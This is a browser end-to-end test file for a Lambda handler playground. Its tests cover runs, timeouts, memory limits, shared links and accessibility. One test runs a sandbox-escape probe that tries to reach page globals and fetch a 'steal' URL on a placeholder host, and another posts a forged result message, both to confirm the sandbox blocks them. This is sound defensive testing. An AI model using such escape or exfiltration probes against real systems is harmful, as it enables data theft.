import {compressToEncodedURIComponent} from 'lz-string';
import {describe, expect, it} from 'vitest';
import {PHONE, openPage, seriousA11yViolations, type OpenedPage} from './harness.ts';

const PATH = '/docs/playground';
const status = (o: OpenedPage) => o.page.getByRole('status');
const output = (o: OpenedPage) => o.page.locator('pre[aria-label^="Run "]').last();

async function runAndWait(o: OpenedPage, button: 'Run' | 'Run with a cold start', expected: RegExp, timeout = 45_000): Promise<string> {
  const before = await o.page.locator('pre[aria-label^="Run "]').count();
  await o.page.getByRole('button', {name: button, exact: true}).click();
  await expect.poll(() => o.page.locator('pre[aria-label^="Run "]').count(), {timeout}).toBe(before + 1);
  const text = await status(o).textContent();
  expect(text).toMatch(expected);
  return (await output(o).textContent()) ?? '';
}

async function loadSample(o: OpenedPage, label: string, timeoutSeconds: number): Promise<void> {
  await o.page.getByLabel('Sample handler').selectOption({label});
  await o.page.getByLabel('Timeout (seconds, 1–900)').fill(String(timeoutSeconds));
}

/** Replaces the handler code with JavaScript (no Monaco needed) through a share link. */
function linkFor(code: string, extra: Record<string, unknown> = {}): string {
  const state = {code, language: 'javascript', templateId: 'eventbridge-custom', eventText: '{"detail":{"orderId":"1"}}', memoryMB: 128, timeoutSeconds: 1, envText: '', mode: 'sync', ...extra};
  return `${PATH}#pg=${compressToEncodedURIComponent(JSON.stringify(state))}`;
}

describe('handler playground in Chromium', () => {
  it('loads without running anything or loading Monaco and the sandbox', async () => {
    const o = await openPage(PATH, {waitUntil: 'networkidle'});
    try {
      await expect.poll(() => status(o).textContent()).toMatch(/Nothing has run yet/);
      expect(await o.page.locator('.monaco-editor').count()).toBe(0);
      const resources = await o.page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
      expect(resources.filter((r) => r.endsWith('.wasm'))).toEqual([]);
      expect(o.consoleErrors).toEqual([]);
      expect(await seriousA11yViolations(o.page)).toEqual([]);
    } finally {
      await o.close();
    }
  });

  it('runs a TypeScript template cold then warm, reads the REPORT lines, then times out and recovers', async () => {
    const o = await openPage(PATH, {waitUntil: 'networkidle'});
    try {
      await o.page.locator('[data-widget="playground"]').getByLabel('Event template').selectOption('s3-put');
      await o.page.getByLabel('Key', {exact: true}).fill('reports/2026.csv');
      const cold = await runAndWait(o, 'Run', /^Cold start: succeeded/, 90_000);
      expect(cold).toMatch(/^START RequestId: [0-9a-f-]{36} Version: \$LATEST$/m);
      expect(cold).toMatch(/INFO\tNew object reports\/2026\.csv in amzn-s3-demo-bucket/);
      expect(cold).toMatch(/^REPORT RequestId: [0-9a-f-]{36}\tDuration: [\d.]+ ms\tBilled Duration: \d+ ms\tMemory Size: 128 MB\tMax Memory Used: \d+ MB\tInit Duration: [\d.]+ ms/m);
      expect(cold).toMatch(/"invocations": 1/);
      // A TypeScript Run strips the types without the editor (issue 17): Monaco loads on editing.
      expect(await o.page.locator('.monaco-editor').count()).toBe(0);
      await o.page.getByLabel('Handler code (press Enter or click to edit)').click();
      await o.page.locator('.monaco-editor').first().waitFor({timeout: 60_000});
      expect(await o.page.locator('.monaco-editor').count()).toBe(1);
      // The TypeScript service knows @types/aws-lambda: the sample type-checks, a wrong S3Event does not.
      // Under load the language service may flag the import until the typings are registered.
      await o.page.waitForTimeout(1500);
      await expect.poll(() => o.page.locator('.squiggly-error').count(), {timeout: 30_000}).toBe(0);
      await o.page.locator('.monaco-editor .view-lines').click();
      await o.page.keyboard.press('Control+End');
      await o.page.keyboard.type('\nconst wrong: S3Event = 42;\n');
      await expect.poll(() => o.page.locator('.squiggly-error').count(), {timeout: 30_000}).toBeGreaterThan(0);
      // Put the sample back exactly: same code, so the environment stays warm.
      await o.page.getByLabel('Sample handler').selectOption({label: 'S3 upload handler (TypeScript)'});
      await o.page.locator('[data-widget="playground"]').getByLabel('Event template').selectOption('s3-put');
      await o.page.getByLabel('Key', {exact: true}).fill('reports/2026.csv');
      const warm = await runAndWait(o, 'Run', /^Warm start: succeeded/);
      expect(warm).toMatch(/^REPORT RequestId: .*Max Memory Used: \d+ MB\t$/m);
      expect(warm).not.toMatch(/Init Duration/);
      expect(warm).toMatch(/"invocations": 2/);
      expect(warm).toMatch(/Cost: \$0\.0000002\d*/);
      const forced = await runAndWait(o, 'Run with a cold start', /^Cold start: succeeded/);
      expect(forced).toMatch(/"invocations": 1/);

      await loadSample(o, 'Timeout: a loop that never ends', 1);
      const timedOut = await runAndWait(o, 'Run', /^Cold start: timed out/);
      expect(timedOut, timedOut).toMatch(/^\S+Z [0-9a-f-]{36} Task timed out after 1\.0\d seconds$/m);
      expect(timedOut).toMatch(/Duration: 1\d{3}\.\d\d ms\tBilled Duration: \d+ ms/);
      await o.page.getByLabel('Sample handler').selectOption({label: 'Thrown error'});
      const next = await runAndWait(o, 'Run', /^Cold start: function error/);
      expect(next).toMatch(/"errorType": "OrderError"/);
      expect(o.consoleErrors).toEqual([]);
      expect(o.externalRequests).toEqual([]);
      await o.page.getByLabel('Sample handler').scrollIntoViewIfNeeded();
      await o.page.screenshot({path: '/tmp/playground-desktop.png'});
      await o.page.getByRole('status').scrollIntoViewIfNeeded();
      await o.page.screenshot({path: '/tmp/playground-desktop-output.png'});
    } finally {
      await o.close();
    }
  }, 180_000);

  it('a shared link fills the form but never runs until Run is pressed', async () => {
    const o = await openPage(linkFor("console.log('should not run'); export const handler = async () => 'ran';"), {waitUntil: 'networkidle'});
    try {
      await expect.poll(() => o.page.getByRole('note').textContent()).toMatch(/filled from a shared link/);
      await new Promise((r) => setTimeout(r, 1000));
      expect(await status(o).textContent()).toMatch(/Nothing has run yet/);
      expect(await o.page.locator('pre[aria-label^="Run "]').count()).toBe(0);
      const wasm = await o.page.evaluate(() => performance.getEntriesByType('resource').filter((e) => e.name.endsWith('.wasm')).length);
      expect(wasm).toBe(0);
      const ran = await runAndWait(o, 'Run', /^Cold start: succeeded/);
      expect(ran).toMatch(/should not run/);
    } finally {
      await o.close();
    }
  }, 90_000);

  it('pointing at Run starts the sandbox without running anything', async () => {
    const o = await openPage(linkFor("console.log('should not run'); export const handler = async () => 'ran';"), {waitUntil: 'networkidle'});
    try {
      const workerScripts: string[] = [];
      o.page.on('worker', (w) => workerScripts.push(w.url()));
      await o.page.getByRole('button', {name: 'Run', exact: true}).hover();
      await expect.poll(() => workerScripts.length, {timeout: 15_000}).toBe(1);
      await new Promise((r) => setTimeout(r, 1000));
      expect(await status(o).textContent()).toMatch(/Nothing has run yet/);
      expect(await o.page.locator('pre[aria-label^="Run "]').count()).toBe(0);
      // The press then uses that worker: still one worker, and the handler's log shows the run.
      const ran = await runAndWait(o, 'Run', /^Cold start: succeeded/);
      expect(ran).toMatch(/should not run/);
      expect(workerScripts).toHaveLength(1);
      expect(o.consoleErrors).toEqual([]);
    } finally {
      await o.close();
    }
  }, 90_000);

  it('a run that takes a while says Running… and disables the buttons; a second press meanwhile is ignored', async () => {
    const slow = 'let n = 0; export const handler = async () => { n++; await new Promise((r) => setTimeout(r, 1500)); return {n}; };';
    const o = await openPage(linkFor(slow, {timeoutSeconds: 5}), {waitUntil: 'networkidle'});
    try {
      // Two presses in the same moment (before the notice shows): one run, not two.
      await o.page.evaluate(() => {
        const run = [...document.querySelectorAll('button')].find((b) => b.textContent === 'Run')!;
        run.click();
        run.click();
      });
      await expect.poll(() => status(o).textContent(), {timeout: 30_000}).toMatch(/^Running…/);
      expect(await o.page.getByRole('button', {name: 'Run', exact: true}).isDisabled()).toBe(true);
      expect(await o.page.getByRole('button', {name: 'Run with a cold start', exact: true}).isDisabled()).toBe(true);
      await expect.poll(() => status(o).textContent(), {timeout: 30_000}).toMatch(/^Cold start: succeeded/);
      expect(await o.page.locator('pre[aria-label^="Run "]').count()).toBe(1);
      expect(await output(o).textContent()).toMatch(/"n": 1/);
      expect(await o.page.getByRole('button', {name: 'Run', exact: true}).isDisabled()).toBe(false);
      const warm = await runAndWait(o, 'Run', /^Warm start: succeeded/);
      expect(warm).toMatch(/"n": 2/);
      expect(o.consoleErrors).toEqual([]);
    } finally {
      await o.close();
    }
  }, 90_000);

  it('escape attempts fail inside the sandbox and the page stays responsive during a hang', async () => {
    const probe = `export const handler = async () => {
  const tried = {};
  for (const name of ['window', 'document', 'self', 'postMessage', 'importScripts', 'localStorage', 'indexedDB', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly']) {
    try { tried[name] = typeof eval(name); } catch (e) { tried[name] = e.name; }
  }
  try { await fetch('https://example.com/steal?c=1'); tried.fetch = 'reached'; } catch (e) { tried.fetch = e.message; }
  tried.global = Object.keys(Function('return this')()).filter((k) => !['console', 'process', 'global', 'performance', 'Buffer', 'TextEncoder', 'TextDecoder'].includes(k) && !/^(set|clear)(Timeout|Interval|Immediate)$|^(queueMicrotask|fetch|atob|btoa)$/.test(k));
  return tried;
};`;
    const o = await openPage(linkFor(probe, {timeoutSeconds: 3}), {waitUntil: 'networkidle'});
    try {
      const text = await runAndWait(o, 'Run', /^Cold start: succeeded/);
      for (const name of ['window', 'document', 'self', 'postMessage', 'importScripts', 'localStorage', 'indexedDB', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly']) {
        expect(text).toContain(`"${name}": "ReferenceError"`);
      }
      expect(text).toContain('"fetch": "fetch failed"');
      expect(text).toContain('"global": []');
      expect(o.externalRequests).toEqual([]);

      // A hang in the handler must not block the page: the main thread keeps ticking and typing works.
      await loadSample(o, 'Timeout: a loop that never ends', 3);
      await o.page.getByRole('button', {name: 'Run', exact: true}).click();
      await o.page.waitForTimeout(500);
      const ticks = await o.page.evaluate(() => new Promise<number>((resolve) => {
        let n = 0;
        const start = performance.now();
        const tick = () => { n++; if (performance.now() - start < 1000) setTimeout(tick, 0); else resolve(n); };
        tick();
      }));
      expect(ticks).toBeGreaterThan(50);
      await o.page.getByLabel('Memory (MB, 128–10,240)').fill('256');
      expect(await o.page.getByLabel('Memory (MB, 128–10,240)').inputValue()).toBe('256');
      // A forged message posted to the page is not taken for a result.
      await o.page.evaluate(() => window.postMessage({v: 1, type: 'outcome', id: 1, outcome: {requestId: 'forged', logs: ['REPORT RequestId: forged'], logRecords: [], report: {}}}, '*'));
      await expect.poll(() => status(o).textContent(), {timeout: 30_000}).toMatch(/timed out/);
      expect(await output(o).textContent()).not.toContain('forged');
    } finally {
      await o.close();
    }
  }, 120_000);

  it('a memory bomb is stopped as out-of-memory, and the phone layout works', async () => {
    const o = await openPage(PATH, {viewport: PHONE, colorScheme: 'dark', waitUntil: 'networkidle'});
    try {
      await o.page.getByLabel('Language').selectOption('javascript');
      await loadSample(o, 'Out of memory', 10);
      // Out of memory, not a timeout: the status line says which, so no wall-clock bound is needed.
      const text = await runAndWait(o, 'Run', /^Cold start: ran out of memory/);
      expect(text).toMatch(/Error: Runtime exited with error: signal: killed/);
      expect(text).toMatch(/Max Memory Used: 128 MB/);
      expect(o.consoleErrors).toEqual([]);
      await o.page.getByLabel('Sample handler').scrollIntoViewIfNeeded();
      await o.page.screenshot({path: '/tmp/playground-phone.png'});
      await output(o).scrollIntoViewIfNeeded();
      await o.page.screenshot({path: '/tmp/playground-phone-output.png'});
      const violations = await seriousA11yViolations(o.page);
      expect(violations, JSON.stringify(violations)).toEqual([]);
    } finally {
      await o.close();
    }
  }, 90_000);

  it('an unhandled rejection is logged and resets the environment; awaited first, it fails the run', async () => {
    const o = await openPage(PATH, {waitUntil: 'networkidle'});
    try {
      await loadSample(o, 'Unhandled promise rejection', 3);
      const first = await runAndWait(o, 'Run', /^Cold start: succeeded\..*The execution environment was reset/, 90_000);
      expect(first).toMatch(/\tERROR\tUnhandled Promise Rejection \t\{"errorType":"Runtime\.UnhandledPromiseRejection","errorMessage":"Error: could not send orders"/);
      expect(first).toMatch(/"accepted": true/);
      await runAndWait(o, 'Run', /^Cold start: succeeded/);
    } finally {
      await o.close();
    }
    const late = await openPage(linkFor("async function send() { throw new Error('late'); }\nexport const handler = async () => { send(); await new Promise((r) => setTimeout(r, 10)); return 1; };"), {waitUntil: 'networkidle'});
    try {
      const text = await runAndWait(late, 'Run', /^Cold start: runtime crashed/, 90_000);
      expect(text).toMatch(/"errorType": "Runtime\.UnhandledPromiseRejection"/);
      expect(text).toMatch(/Error: Runtime exited with error: exit status 128/);
      expect(late.consoleErrors).toEqual([]);
    } finally {
      await late.close();
    }
  }, 120_000);
});
